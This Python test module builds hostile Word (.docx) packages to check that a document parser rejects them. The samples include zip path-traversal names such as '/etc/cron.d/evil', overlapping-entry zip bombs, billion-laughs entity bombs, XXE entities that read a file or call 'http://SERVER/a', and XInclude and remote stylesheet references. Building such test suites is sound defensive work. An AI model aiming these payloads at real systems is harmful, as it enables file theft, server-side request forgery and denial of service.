"""Attacks by the zip, by its XML, and by files that are no Word files at all."""

import io
import os
import struct
import zipfile
from collections.abc import Callable, Mapping

import small_papers as d

SOUND = d.members(d.paper("正文"))
DOCUMENT, TYPES = "word/document.xml", "[Content_Types].xml"
Build = Callable[[], bytes]

SERVER = os.environ.get("ATTACK_SERVER", "127.0.0.1:9")
CANARY = os.environ.get("ATTACK_CANARY", "/nowhere")


def aimed(text: str) -> str:
    """Aim an attack at the server and the file that are watched."""
    return text.replace("SERVER", SERVER).replace("CANARY", CANARY)


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """Zip a file, its attacks aimed."""
    aims = ((b"SERVER", SERVER.encode()), (b"CANARY", CANARY.encode()))
    made = dict(parts)
    for old, new in aims:
        made = {name: data.replace(old, new) for name, data in made.items()}
    return d.zipped(made)


def having(name: str, data: bytes) -> Build:
    """Add or replace one member."""
    return lambda: zipped({**SOUND, name: data})


def without(name: str) -> Build:
    """Leave one member out."""
    return lambda: zipped({key: data for key, data in SOUND.items() if key != name})


def changed(name: str, old: str, new: str, encoding: str = "utf-8") -> Build:
    """Change a member's text."""

    def build() -> bytes:
        text = SOUND[name].decode()
        assert old in text
        return zipped({**SOUND, name: text.replace(old, new, 1).encode(encoding)})

    return build


def raw(make: Callable[[zipfile.ZipFile], object], parts: Mapping[str, bytes] = SOUND) -> Build:
    """Write members by hand after the sound ones."""

    def build() -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
            for name, data in parts.items():
                package.writestr(name, data)
            make(package)
        return buffer.getvalue()

    return build


def patched(offset: int, value: bytes, *, local: bool) -> Build:
    """Overwrite bytes in the header of the last member, in its own or in the directory."""

    def build() -> bytes:
        content = bytearray(zipped({**SOUND, "word/last.bin": b"last " * 50}))
        at = content.rfind(b"PK\3\4" if local else b"PK\1\2") + offset
        content[at : at + len(value)] = value
        return bytes(content)

    return build


def _overlapping() -> bytes:
    """Let two entries of the directory lead to one member."""
    content = bytearray(zipped({**SOUND, "word/a.bin": b"a" * 50, "word/b.bin": b"a" * 50}))
    second = content.rfind(b"PK\1\2")
    first = content.rfind(b"PK\1\2", 0, second)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def _bomb_of_overlaps() -> bytes:
    """Let a thousand entries share one compressed stream, as Fifield's bombs do."""
    content = bytearray(zipped({**SOUND, "word/a.bin": bytes(900_000)}))
    entry = content.rfind(b"PK\1\2")
    end = content.rfind(b"PK\5\6")
    one = bytes(content[entry:end])
    extra = b"".join(one.replace(b"word/a.bin", b"word/%03d.b" % (n % 1000)) for n in range(999))
    start = struct.unpack_from("<I", content, end + 16)[0]
    tail = bytearray(content[end:])
    count = struct.unpack_from("<H", tail, 10)[0] + 999
    struct.pack_into("<HHII", tail, 8, count, count, end - start + len(extra), start)
    return bytes(content[:end]) + extra + bytes(tail)


def _twice(package: zipfile.ZipFile) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        package.writestr(DOCUMENT, b"<other/>")


def _wrong_sum() -> bytes:
    """Change a stored byte, and nothing of what is said of it."""
    stored = raw(lambda package: package.writestr("word/a.bin", b"sound", compress_type=0))()
    return stored.replace(b"sound", b"evil!")


def stored(package: zipfile.ZipFile, name: str, element: bytes) -> str:
    """Store a part of 16 MB that is one element repeated."""
    xml = b"<a>" + element * (16_000_000 // len(element)) + b"</a>"
    package.writestr(name, xml, compress_type=zipfile.ZIP_STORED)
    return name


def _named(name: str) -> Build:
    return raw(lambda package: package.writestr(zipfile.ZipInfo(name), b"<a/>"))


def _null_name() -> bytes:
    return zipped({**SOUND, "word/aXb.xml": b"<a/>"}).replace(b"word/aXb.xml", b"word/a\0b.xml")


def _encrypted() -> bytes:
    content = bytearray(zipped(SOUND))
    at = content.find(b"PK\1\2")
    content[at + 8] |= 1
    return bytes(content)


def _packed(method: int) -> Build:
    return raw(lambda package: package.writestr("word/a.bin", b"a" * 100, compress_type=method))


def _compound(stream: str) -> Build:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return lambda: head + stream.encode("utf-16-le") + b"\0" * 512


def _other(*names: str) -> Build:
    return lambda: zipped({TYPES: SOUND[TYPES], **dict.fromkeys(names, b"<a/>")})


def _typed(kind: str) -> Build:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(TYPES, main, kind)


UNSAFE, UNREADABLE = "unsafe-package", "unreadable-package"
_MS = "application/vnd.ms-word"
_XML = "application/vnd.openxmlformats-officedocument.wordprocessingml"

_ZIPS: dict[str, tuple[str, Build]] = {
    "bytes before the zip": (UNREADABLE, lambda: b"MZ" * 50 + zipped(SOUND)),
    "a zip before the zip": (UNSAFE, lambda: zipped({"a": b"a"}) + zipped(SOUND)),
    "bytes after the zip": (UNSAFE, lambda: zipped(SOUND) + b"evil"),
    "a zip after the zip": (UNREADABLE, lambda: zipped(SOUND) + zipped({"a": b"a"})),
    "overlapping members": (UNSAFE, _overlapping),
    "a bomb of overlaps": (UNSAFE, _bomb_of_overlaps),
    "a member twice": (UNSAFE, raw(_twice)),
    "two spellings": (UNSAFE, having("WORD/Document.xml", b"<a/>")),
    "a name in per cent": (UNSAFE, having("word/%64ocument.xml", b"<a/>")),
    "a name of full width": (UNSAFE, having("word/ｄocument.xml", b"<a/>")),
    "a name that climbs": (UNSAFE, _named("../../evil.xml")),
    "a name that climbs in the middle": (UNSAFE, _named("word/../../evil.xml")),
    "a name that climbs in per cent": (UNSAFE, _named("word/%2e%2e/%2e%2e/evil.xml")),
    "an absolute name": (UNSAFE, _named("/etc/cron.d/evil")),
    "a name with backslashes": (UNSAFE, _named("word\\..\\evil.xml")),
    "a name with a drive": (UNSAFE, _named("C:/evil.xml")),
    "a name with a null": (UNSAFE, _null_name),
    "a name with a line break": (UNSAFE, _named("word/a\nb.xml")),
    "a name that turns round": (UNSAFE, _named("word/\u202egpj.xml")),
    "a very long name": (UNSAFE, _named("word/" + "a" * 5000)),
    "a part in pieces": (UNSAFE, _named("word/document.xml/[0].piece")),
    "an encrypted member": (UNREADABLE, _encrypted),
    "packed by bzip2": (UNSAFE, _packed(zipfile.ZIP_BZIP2)),
    "packed by lzma": (UNSAFE, _packed(zipfile.ZIP_LZMA)),
    "a steep member": (UNSAFE, having("word/media/a.png", bytes(50_000_000))),
    "six thousand members": (
        UNSAFE,
        raw(
            lambda package: list(
                map(package.writestr, [f"word/{n}.bin" for n in range(6000)], [b""] * 6000)
            )
        ),
    ),
    "a size of 4 GB in the directory": (UNSAFE, patched(24, b"\xfe\xff\xff\xff", local=False)),
    "a size that is too small": (UNSAFE, patched(24, b"\1\0\0\0", local=False)),
    "another name in the member": (UNSAFE, patched(30, b"evil/last.bin", local=True)),
    "another size in the member": (UNSAFE, patched(22, b"\1\0\0\0", local=True)),
    "another method in the member": (UNSAFE, patched(8, b"\0\0", local=True)),
    "another sum in the member": (UNSAFE, patched(14, b"abcd", local=True)),
    "a member that is none": (UNSAFE, patched(0, b"PK\7\7", local=True)),
    "an offset beyond the end": (UNREADABLE, patched(42, b"\xff\xff\xff\x7f", local=False)),
    "a wrong sum": (UNREADABLE, _wrong_sum),
    "nothing but an end": (UNREADABLE, lambda: b"PK\5\6" + bytes(18)),
    "half a file": (UNREADABLE, lambda: zipped(SOUND)[:8000]),
}
_FORMATS: dict[str, tuple[str, Build]] = {
    "an old doc": (UNREADABLE, _compound("WordDocument")),
    "a file with a password": (UNREADABLE, _compound("EncryptedPackage")),
    "an old wps": (UNREADABLE, _compound("MatOST")),
    "an old xls": (UNREADABLE, _compound("Workbook")),
    "rtf": (UNREADABLE, lambda: rb"{\rtf1\ansi{\object\objemb}}"),
    "pdf": (UNREADABLE, lambda: b"%PDF-1.7\n"),
    "html": (UNREADABLE, lambda: b"\xef\xbb\xbf<!DOCTYPE html><html></html>"),
    "mht": (UNREADABLE, lambda: b"MIME-Version: 1.0\n"),
    "a document in one xml": (UNREADABLE, lambda: b"<?xml version='1.0'?><w:wordDocument/>"),
    "png": (UNREADABLE, lambda: b"\x89PNG\r\n"),
    "rar": (UNREADABLE, lambda: b"Rar!\x1a\x07"),
    "text": (UNREADABLE, "{{ 姓名 }}".encode),
    "nothing": (UNREADABLE, lambda: b""),
    "zeros": (UNREADABLE, lambda: bytes(1000)),
    "xlsx": (UNREADABLE, _other("xl/workbook.xml")),
    "pptx": (UNREADABLE, _other("ppt/presentation.xml")),
    "odt": (UNREADABLE, _other("content.xml")),
    "ofd": (UNREADABLE, _other("OFD.xml")),
    "some zip": (UNREADABLE, _other("a.txt")),
    "no content types": (UNREADABLE, without(TYPES)),
    "no relations": (UNREADABLE, without("_rels/.rels")),
    "docm": (UNSAFE, _typed(f"{_MS}.document.macroEnabled.main+xml")),
    "dotm": (UNSAFE, _typed(f"{_MS}.template.macroEnabledTemplate.main+xml")),
    "dotx": (UNREADABLE, _typed(f"{_XML}.template.main+xml")),
}

_LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
)
_EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "CANARY">'
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'


def document(
    *, before: str = "", inside: str = "", encoding: str = "utf-8", named: str = ""
) -> Build:
    """Make a document with something before its root and in its text."""

    def build() -> bytes:
        xml = (
            f'<?xml version="1.0" encoding="{named or encoding}"?>{before}'
            f'<w:document xmlns:w="{d.W}"><w:body><w:p><w:r><w:t>text {inside}</w:t></w:r></w:p>'
            "<w:sectPr/></w:body></w:document>"
        )
        return d.zipped({**SOUND, DOCUMENT: aimed(xml).encode(encoding)})

    return build


def body(xml: str) -> Build:
    """Put XML at the beginning of the body."""
    return lambda: d.with_body(d.paper("正文"), aimed(xml))


_PARTS: dict[str, tuple[str, Build]] = {
    "a document type": (UNSAFE, document(before="<!DOCTYPE a>")),
    "a thousand million laughs": (UNSAFE, document(before=_LAUGHS + "]>", inside="&a11;")),
    "an entity that reads a file": (UNSAFE, document(before=_EXTERNAL + "]>", inside="&x;")),
    "an entity that asks the network": (
        UNSAFE,
        document(before='<!DOCTYPE a [<!ENTITY x SYSTEM "http://SERVER/a">]>', inside="&x;"),
    ),
    "a document type from the network": (
        UNSAFE,
        document(before='<!DOCTYPE a SYSTEM "http://SERVER/a">'),
    ),
    "a parameter entity": (
        UNSAFE,
        document(before='<!DOCTYPE a [<!ENTITY % x SYSTEM "http://SERVER/a"> %x;]>'),
    ),
    "a quadratic bomb": (
        UNSAFE,
        document(before=f"<!DOCTYPE a [<!ENTITY x '{'a' * 50_000}'>]>", inside="&x;" * 50_000),
    ),
    "a document type in 16 bits": (UNSAFE, document(before=_EXTERNAL + "]>", encoding="utf-16")),
    "a document type in 16 bits, unmarked": (
        UNSAFE,
        document(before=_EXTERNAL + "]>", encoding="utf-16-le", named="utf-16"),
    ),
    "a document type in 16 bits, turned": (
        UNSAFE,
        document(before=_EXTERNAL + "]>", encoding="utf-16-be", named="utf-16"),
    ),
    "a document type in 7 bits": (
        UNREADABLE,
        document(before="+ADw-!DOCTYPE a+AD4-", named="utf-7"),
    ),
    "a document type in 32 bits": (UNREADABLE, document(before="<!DOCTYPE a>", encoding="utf-32")),
    "a document type in EBCDIC": (UNREADABLE, document(before="<!DOCTYPE a>", encoding="cp037")),
    "a document in GBK": (UNREADABLE, document(encoding="gbk")),
    "an encoding nobody knows": (UNREADABLE, document(named="x-evil")),
    "a wrong encoding": (UNREADABLE, document(named="utf-16")),
    "a declaration nobody knows": (
        UNREADABLE,
        having(DOCUMENT, b"<?xml encoding='utf-7' version='1.0'?><a/>"),
    ),
    "a document type after a mark": (UNSAFE, having("word/a.xml", b"\xef\xbb\xbf<!DOCTYPE a><a/>")),
    "a document type in the settings": (UNSAFE, having("word/settings.xml", b"<!DOCTYPE a><a/>")),
    "a document type among the types": (UNSAFE, changed(TYPES, "<Types", "<!DOCTYPE a><Types")),
    "a document type among the ties": (
        UNSAFE,
        having("word/_rels/a.xml.rels", ("<!DOCTYPE a>" + _RELS).encode()),
    ),
    "a document type in custom xml": (UNSAFE, having("customXml/item1.xml", b"<!DOCTYPE a><a/>")),
    "a document type in a picture": (UNSAFE, having("word/media/a.svg", b"<!DOCTYPE svg><svg/>")),
    "an entity in a property": (
        UNSAFE,
        having("docProps/app.xml", (_HEAD + _EXTERNAL + "]><Properties>&x;</Properties>").encode()),
    ),
    "xml of a name of its own": (
        UNSAFE,
        lambda: zipped(
            {
                **SOUND,
                TYPES: SOUND[TYPES].replace(
                    b"<Override",
                    b'<Override PartName="/word/a.dat" ContentType="application/a+xml"/><Override',
                    1,
                ),
                "word/a.dat": b"<!DOCTYPE a><a/>",
            }
        ),
    ),
    "deep xml": (UNSAFE, body("<w:p>" * 100_000 + "</w:p>" * 100_000)),
    "deep xml in the settings": (
        UNSAFE,
        having("word/settings.xml", b"<a>" * 9000 + b"</a>" * 9000),
    ),
    "tables in tables": (
        UNSAFE,
        body("<w:tbl><w:tr><w:tc>" * 200 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 200),
    ),
    "a part of 25 MB": (
        UNSAFE,
        lambda: raw(
            lambda package: package.writestr(
                "word/a.xml", b"<a>" + b"ab" * 12_500_000 + b"</a>", compress_type=0
            )
        )(),
    ),
    "parts of 80 MB": (
        UNSAFE,
        raw(lambda package: [stored(package, f"word/header{n}.xml", b"<b/>") for n in range(5)]),
    ),
    "three million elements": (
        UNSAFE,
        raw(
            lambda package: package.writestr(
                "word/a.xml", b"<a>" + b"<b/>" * 3_000_000 + b"</a>", compress_type=0
            )
        ),
    ),
    "a tag of 5 MB": (
        UNSAFE,
        raw(
            lambda package: package.writestr(
                "word/a.xml",
                b"<a " + b" ".join(b'a%d=""' % n for n in range(500_000)) + b"/>",
                compress_type=0,
            )
        ),
    ),
    "an attribute of 5 MB": (UNSAFE, having("word/a.xml", b'<a b="' + b"xyz" * 1_700_000 + b'"/>')),
    "broken xml": (UNREADABLE, having("word/styles.xml", b"<w:styles>")),
    "xml with nulls": (UNREADABLE, having("word/styles.xml", b"<a>\0</a>")),
    "half of a sign": (UNREADABLE, having("word/styles.xml", b"<a>\xe4\xb8</a>")),
    "another document": (UNREADABLE, having(DOCUMENT, b"<html/>")),
    "strict xml": (
        UNREADABLE,
        having(
            DOCUMENT, b'<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'
        ),
    ),
    "the document elsewhere": (
        UNREADABLE,
        changed("_rels/.rels", "word/document.xml", "word/other.xml"),
    ),
    "tags in a comment": ("", document(before="<!-- {{ x.__class__ }} -->")),
    "many comments": ("", document(before="<!-- <w:sectPr> -->" * 20_000)),
    "many instructions": ("", document(before="<?a <!-- <w:sectPr> ?>" * 20_000)),
    "a style sheet": (
        "",
        document(before='<?xml-stylesheet href="http://SERVER/a.xsl" type="text/xsl"?>'),
    ),
    "an inclusion": (
        "",
        body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="CANARY" parse="text"/>'),
    ),
    "a place for schemas": (
        "",
        body(
            '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:schemaLocation="a http://SERVER/a.xsd"/>'
        ),
    ),
    "many sections": ("", body("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 5000)),
}

ATTACKS: dict[str, tuple[str, Build]] = {**_ZIPS, **_FORMATS, **_PARTS}
